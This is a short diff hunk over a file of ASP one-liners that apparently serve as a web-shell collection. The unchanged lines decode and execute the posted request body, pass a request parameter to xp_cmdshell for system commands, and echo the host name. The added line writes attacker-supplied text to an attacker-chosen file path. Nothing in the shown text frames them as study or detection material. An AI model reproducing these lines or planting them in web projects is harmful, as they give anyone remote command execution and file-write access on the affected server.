@@ -28,3 +28,4 @@
 <%Set c = Request.BinaryRead(Request.TotalBytes) : for i=1 to n : r = r & chr(ascb(midb(c,i,1)) Xor k) : next : Execute(r)%>
 <%Set conn = Server.CreateObject("ADODB.Connection") : conn.Execute("exec master..xp_cmdshell '" & Request("c") & "'")%>
 <%Set n = CreateObject("WScript.Network") : Response.Write n.ComputerName & Request("x")%>
+<% Path = Request( "path" ) : Set F = FSO.CreateTextFile( Path, True ) : F.Write Request("t") %>
